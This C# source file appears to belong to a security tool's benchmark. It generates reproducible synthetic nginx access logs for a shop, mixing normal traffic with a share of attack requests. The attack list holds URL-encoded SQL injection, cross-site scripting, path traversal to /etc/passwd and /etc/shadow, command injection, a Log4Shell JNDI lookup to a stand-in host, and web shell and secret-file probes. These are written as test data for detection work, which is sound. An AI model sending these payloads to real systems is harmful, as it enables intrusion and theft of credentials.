using System.Text;

namespace Palisade.Cli.Bench;

/// <summary>
/// Access log lines in nginx's combined format, the same for the same seed: a small shop's traffic with a steady share of
/// attacks in it. Clients come from the address ranges reserved for documentation (RFC 5737) and benchmarks (RFC 2544).
/// </summary>
internal sealed class NginxLogGenerator(ulong seed, long startMs, int linesPerSecond = 10_000, double attackShare = 0.01)
{
    private static readonly byte[][] Pages = Utf8(
        "/", "/", "/", "/products", "/products?page=2", "/products?sort=price&dir=asc", "/cart", "/login", "/account", "/search?q=garden+chair",
        "/search?q=lamp&max=80", "/static/app.4f2c91.js", "/static/site.css", "/static/logo.svg", "/images/hero.webp", "/images/p/{n}.jpg", "/images/p/{n}.jpg",
        "/product/{n}", "/product/{n}", "/product/{n}/reviews", "/api/v1/stock/{n}", "/api/v1/cart", "/api/v1/prices?ids={n},{n}", "/feed.xml", "/robots.txt",
        "/blog/how-to-choose-a-desk", "/blog/care-of-oak?ref=newsletter", "/favicon.ico", "/help/returns", "/checkout/shipping");

    private static readonly byte[][] Attacks = Utf8(
        "/product/{n}%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", "/search?q=1%27%20OR%20%271%27=%271", "/product/{n}?id=1;WAITFOR%20DELAY%20%270:0:5%27--",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert({n})%3E",
        "/download?file=../../../../etc/passwd", "/static/..%2f..%2f..%2f..%2fetc%2fshadow", "/index.php?page=php://filter/convert.base64-encode/resource=config",
        "/api/v1/ping?host=127.0.0.1;cat%20/etc/passwd", "/cgi-bin/status?x=%24(id)", "/?x=${jndi:ldap://198.51.100.66:1389/a{n}}", "/uploads/shell.php?cmd=whoami",
        "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php");

    private static readonly byte[][] Browsers = Utf8(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:141.0) Gecko/20100101 Firefox/141.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Mobile Safari/537.36");

    private static readonly byte[][] Tools = Utf8("sqlmap/1.9.4#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", "curl/8.14.1", "python-requests/2.32.4", "Mozilla/5.0");
    private static readonly byte[][] Referrers = Utf8("-", "-", "https://shop.example.com/", "https://shop.example.com/products", "https://www.example.org/search");

    private readonly byte[] clock = new byte[28];
    private ulong state = seed;
    private long clockSecond = -1;
    private long line;

    /// <summary>Room that one line may need, without its end.</summary>
    public const int MaxLineBytes = 512;

    /// <summary>Was the last line an attack?</summary>
    public bool LastWasAttack { get; private set; }

    /// <summary>The next line is of this time, Unix milliseconds, and those after it follow.</summary>
    public void Restart(long ms) => (startMs, line) = (ms, 0);

    /// <summary>Writes the next line, without its end.</summary>
    /// <returns>Bytes written.</returns>
    public int Write(Span<byte> to)
    {
        LastWasAttack = Next() < attackShare * ulong.MaxValue;
        // 200 attackers, 65,536 clients (198.18.0.0/16) of which a tenth make most of the traffic.
        var client = LastWasAttack ? Below(200) : Below(4) == 0 ? Below(65_536) : Below(6_500);
        var address = LastWasAttack ? 0xC633_6400u + (uint)client : 0xC612_0000u + (uint)client;
        return Write(to, address, LastWasAttack ? Attacks[Below(Attacks.Length)] : Pages[Below(Pages.Length)]);
    }

    /// <summary>Writes one SQL injection from an IPv4 address of the caller's choice: a line that can be found again.</summary>
    public int WriteMarked(Span<byte> to, uint address)
    {
        LastWasAttack = true;
        return Write(to, address, Attacks[0]);
    }

    // 198.18.3.7 - - [24/Nov/2026:16:00:00 +0000] "GET /product/81 HTTP/1.1" 200 5120 "https://shop.example.com/" "Mozilla/5.0 …"
    private int Write(Span<byte> to, uint address, byte[] target)
    {
        var at = 0;
        for (var shift = 24; shift >= 0; shift -= 8)
        {
            Number(to, ref at, (address >> shift) & 255);
            if (shift > 0) to[at++] = (byte)'.';
        }
        Put(to, ref at, " - - ["u8);
        Put(to, ref at, Clock(startMs + (line++ * 1000 / linesPerSecond)));
        var posts = !LastWasAttack && Below(12) == 0;
        Put(to, ref at, posts ? "] \"POST "u8 : "] \"GET "u8);
        Target(to, ref at, target);
        Put(to, ref at, Below(3) == 0 ? " HTTP/1.1\" "u8 : " HTTP/2.0\" "u8);
        Put(to, ref at, Status());
        to[at++] = (byte)' ';
        Number(to, ref at, (uint)(200 + Below(40_000)));
        Put(to, ref at, " \""u8);
        Put(to, ref at, LastWasAttack ? "-"u8 : Referrers[Below(Referrers.Length)]);
        Put(to, ref at, "\" \""u8);
        Put(to, ref at, LastWasAttack ? Tools[Below(Tools.Length)] : Browsers[Below(Browsers.Length)]);
        to[at++] = (byte)'"';
        return at;
    }

    private ReadOnlySpan<byte> Status() => LastWasAttack
        ? Below(10) switch { 0 or 1 or 2 => "403"u8, 3 or 4 or 5 or 6 => "404"u8, 7 => "500"u8, _ => "200"u8 }
        : Below(40) switch { 0 => "404"u8, 1 or 2 => "304"u8, 3 => "302"u8, 4 => "499"u8, _ => "200"u8 };

    private void Target(Span<byte> to, ref int at, ReadOnlySpan<byte> target)
    {
        while (true)
        {
            var hole = target.IndexOf("{n}"u8);
            if (hole < 0) break;
            Put(to, ref at, target[..hole]);
            Number(to, ref at, (uint)(1 + Below(5000)));
            target = target[(hole + 3)..];
        }
        Put(to, ref at, target);
    }

    private ReadOnlySpan<byte> Clock(long ms)
    {
        var second = ms / 1000;
        if (second != clockSecond)
        {
            clockSecond = second;
            DateTimeOffset.FromUnixTimeSeconds(second).TryFormat(clock, out _, "dd'/'MMM'/'yyyy':'HH':'mm':'ss' +0000'");
        }
        return clock.AsSpan(0, 26);
    }

    private static void Put(Span<byte> to, ref int at, ReadOnlySpan<byte> bytes)
    {
        bytes.CopyTo(to[at..]);
        at += bytes.Length;
    }

    private static void Number(Span<byte> to, ref int at, uint value)
    {
        value.TryFormat(to[at..], out var n);
        at += n;
    }

    private int Below(int limit) => (int)Math.BigMul(Next(), (ulong)limit, out _);

    // SplitMix64 (Steele, Lea, Flood: Fast splittable pseudorandom number generators, 2014).
    private ulong Next()
    {
        var z = state += 0x9E3779B97F4A7C15;
        z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9;
        z = (z ^ (z >> 27)) * 0x94D049BB133111EB;
        return z ^ (z >> 31);
    }

    private static byte[][] Utf8(params string[] texts) => [.. texts.Select(Encoding.UTF8.GetBytes)];
}
